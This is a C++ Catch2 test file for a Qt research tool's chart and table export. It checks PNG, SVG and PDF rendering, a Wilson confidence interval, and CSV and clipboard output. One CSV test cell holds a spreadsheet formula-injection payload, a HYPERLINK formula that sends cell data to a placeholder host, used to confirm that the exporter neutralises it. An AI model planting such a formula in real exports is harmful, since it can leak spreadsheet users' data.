// Charts render to PNG (at the requested pixel size and DPI), SVG and PDF; tables of texts save
// as CSV. What leaves the program through the panels is tested in test_export_gate.
// The figures are made by hand: 30/60 = 50% with Wilson interval [37.7, 62.3] (computed with
// z = 1.96: centre (30 + 1.92) / 63.84, half-width 1.96 * sqrt(15 + 0.96) / 63.84).
#include <catch2/catch.hpp>

#include "UiTestSupport.h"

#include "ui/charts/ChartExporter.h"
#include "ui/charts/ChartPanel.h"
#include "ui/charts/ChartStyle.h"
#include "ui/report/FigureOutlet.h"
#include "ui/charts/DistributionChartBuilder.h"
#include "ui/charts/ProportionChartBuilder.h"
#include "ui/widgets/TablePanel.h"

#include <QApplication>
#include <QChart>
#include <QClipboard>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QSettings>
#include <QStandardItemModel>
#include <QTemporaryDir>
#include <QToolButton>

namespace {

km::Proportion proportion(const std::string& id, std::int64_t numerator, std::int64_t denominator, std::int64_t unknown)
{
    return km::Proportion::make(id, numerator, denominator, unknown);
}

std::unique_ptr<ProportionChartBuilder> sampleBars()
{
    auto builder = std::make_unique<ProportionChartBuilder>(QStringLiteral("Recidive"),
        QStringList{QStringLiteral("Nieuw geweld"), QStringLiteral("Nieuwe zorgen")});
    builder->addSeries(QStringLiteral("NHN-2019"),
        {proportion("recidive.nieuw_geweld", 30, 60, 0), proportion("recidive.nieuwe_zorgen", 12, 60, 0)});
    return builder;
}

// Pixels close to a colour: the bars are drawn in the palette's first colour.
int pixelsNear(const QImage& image, QColor colour)
{
    int count = 0;
    for (int y = 0; y < image.height(); y += 2)
        for (int x = 0; x < image.width(); x += 2) {
            const QColor c = image.pixelColor(x, y);
            if (std::abs(c.red() - colour.red()) < 8 && std::abs(c.green() - colour.green()) < 8
                && std::abs(c.blue() - colour.blue()) < 8)
                ++count;
        }
    return count;
}

} // namespace

TEST_CASE("the hand-made proportion has the expected interval", "[ui][export]")
{
    const km::Proportion p = proportion("x", 30, 60, 0);
    REQUIRE(p.percent);
    CHECK(*p.percent == Approx(50.0));
    CHECK(p.ci95->lower == Approx(37.7).margin(0.05));
    CHECK(p.ci95->upper == Approx(62.3).margin(0.05));
}

TEST_CASE("the chart exporter writes PNG, SVG and PDF; a panel without an outlet exports nothing", "[ui][export]")
{
    const QTemporaryDir dir;
    REQUIRE(dir.isValid());
    ChartPanel panel;
    panel.resize(800, 500);
    panel.setChart(sampleBars());
    REQUIRE(panel.chart() != nullptr);
    CHECK(panel.chart()->series().size() == 1);
    // The screen's chart has the researcher's own figures: without an outlet they cannot leave.
    CHECK_FALSE(panel.exportButton()->isEnabled());
    CHECK_FALSE(panel.copyButton()->isEnabled());
    QString error;
    CHECK_FALSE(panel.exportTo(ChartFile{ChartFile::Format::Png, dir.filePath("x.png"), QSize(400, 300), 96},
                               FigureOutlet::SmallNumbers::Protected, &error));
    CHECK_FALSE(error.isEmpty());
    CHECK_FALSE(QFileInfo::exists(dir.filePath("x.png")));
    const auto builder = sampleBars();

    SECTION("PNG at the requested size and resolution")
    {
        const QString path = dir.filePath("recidive.png");
        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Png, path, QSize(1200, 700), 192}, &error));
        const QImage image(path);
        REQUIRE_FALSE(image.isNull());
        CHECK(image.size() == QSize(1200, 700));
        CHECK(image.dotsPerMeterX() == qRound(192 / 0.0254));
        CHECK(image.pixelColor(2, 2) == QColor(Qt::white));
        // Two bars of 50% and 20% of a ~1000 px wide plot, ~60 px thick at 2x: thousands of
        // bar-coloured pixels (sampled every second pixel), never just a few antialiased ones.
        CHECK(pixelsNear(image, ChartStyle::seriesColor(0)) > 2000);
    }

    SECTION("SVG")
    {
        const QString path = dir.filePath("recidive.svg");
        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Svg, path, QSize(800, 500), 96}, &error));
        QFile file(path);
        REQUIRE(file.open(QIODevice::ReadOnly));
        const QByteArray svg = file.readAll();
        CHECK(svg.contains("<svg"));
        CHECK(svg.contains("viewBox=\"0 0 800 500\""));
        CHECK(svg.contains("Nieuw geweld"));   // the category labels are text, not pixels
        CHECK_FALSE(svg.contains("INTERN"));
    }

    SECTION("PDF")
    {
        const QString path = dir.filePath("recidive.pdf");
        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Pdf, path, QSize(800, 500), 96}, &error));
        CHECK(uitest::readHead(path, 5) == QByteArray("%PDF-"));
        CHECK(QFileInfo(path).size() > 1000);
    }

    SECTION("a stamp is drawn as text")
    {
        const QString path = dir.filePath("intern.svg");
        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Svg, path, QSize(800, 500), 96}, &error,
                                      QStringLiteral("INTERN")));
        QFile file(path);
        REQUIRE(file.open(QIODevice::ReadOnly));
        CHECK(file.readAll().contains("INTERN"));
    }

    SECTION("an unwritable path is an error, not a crash")
    {
        CHECK_FALSE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Png, dir.filePath("no/such/folder/x.png"),
                                                               QSize(400, 300), 96}, &error));
        CHECK(error.contains(QStringLiteral("x.png")));
    }
}

namespace {

// Share of dark (text, whisker, outline) pixels in an image.
double darkShare(const QImage& image)
{
    int dark = 0;
    for (int y = 0; y < image.height(); ++y)
        for (int x = 0; x < image.width(); ++x)
            if (qGray(image.pixel(x, y)) < 100)
                ++dark;
    return static_cast<double>(dark) / (image.width() * image.height());
}

} // namespace

TEST_CASE("a PNG at twice the DPI is the same picture at twice the size", "[ui][export]")
{
    // Layout happens at pixels * 96 / dpi, then everything is scaled by dpi / 96: 1600x1000 at
    // 192 dpi and 800x500 at 96 dpi must show text and lines at the same relative size.
    const auto builder = sampleBars();
    const QImage screen = ChartExporter::toImage(*builder, QSize(800, 500), 96);
    const QImage print = ChartExporter::toImage(*builder, QSize(1600, 1000), 192);
    CHECK(print.size() == QSize(1600, 1000));
    const double a = darkShare(screen);
    const double b = darkShare(print.scaled(800, 500, Qt::IgnoreAspectRatio, Qt::SmoothTransformation));
    REQUIRE(a > 0);
    CHECK(b / a == Approx(1.0).margin(0.25));
}

TEST_CASE("a distribution chart renders boxes for present data and survives empty data", "[ui][export]")
{
    std::vector<double> days{10, 20, 30, 40, 200};
    std::vector<double> none;
    DistributionChartBuilder builder(QStringLiteral("Snelheid"), {QStringLiteral("A"), QStringLiteral("B")},
                                     QStringLiteral("dagen"));
    builder.addSeries(QStringLiteral("alle"), {km::Distribution::make("a", "dagen", days),
                                               km::Distribution::make("b", "dagen", none)});
    const QImage image = ChartExporter::toImage(builder, QSize(600, 400), 96);
    CHECK(image.size() == QSize(600, 400));
    // The box of A spans Q1 20 to Q3 40 (R type 7 on 10, 20, 30, 40, 200) of a 0-250 axis
    // over ~450 px, and is ~45 px high: ~1600 filled pixels, ~400 of them sampled.
    CHECK(pixelsNear(image, ChartStyle::seriesFill(0)) > 150);
}

TEST_CASE("a table panel of texts (no figures) saves CSV in the spreadsheet dialect of the settings", "[ui][export]")
{
    // The import's error list is such a table; figure tables have an outlet (test_export_gate).
    QStandardItemModel model(1, 3);
    model.setHorizontalHeaderLabels({QStringLiteral("Regel"), QStringLiteral("Waarde"), QStringLiteral("Verwacht")});
    model.setItem(0, 0, new QStandardItem(QStringLiteral("4")));
    model.setItem(0, 1, new QStandardItem(QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"klik\")")));
    model.setItem(0, 2, new QStandardItem(QStringLiteral("een datum; dd-mm-jjjj")));
    TablePanel panel;
    panel.setModel(&model);
    QSettings().setValue("export/csv", QStringLiteral("nl"));

    const QTemporaryDir dir;
    const QString path = dir.filePath("fouten.csv");
    QString error;
    REQUIRE(panel.saveCsv(path, &error));
    QFile file(path);
    REQUIRE(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    CHECK(bytes.startsWith("\xEF\xBB\xBF"));   // BOM: Excel reads UTF-8
    const QStringList lines = QString::fromUtf8(bytes.mid(3)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    REQUIRE(lines.size() == 2);
    CHECK(lines[0] == QStringLiteral("Regel;Waarde;Verwacht"));
    CHECK(lines[1] == QStringLiteral("4;\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\";\"een datum; dd-mm-jjjj\""));
    QSettings().remove("export/csv");

    // Copy: tab-separated, header first, the whole table when nothing is selected.
    panel.copyToClipboard();
    const QStringList copied = QApplication::clipboard()->text().split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    REQUIRE(copied.size() == 2);
    CHECK(copied[0] == QStringLiteral("Regel\tWaarde\tVerwacht"));
    CHECK(copied[1].startsWith(QStringLiteral("4\t")));
}
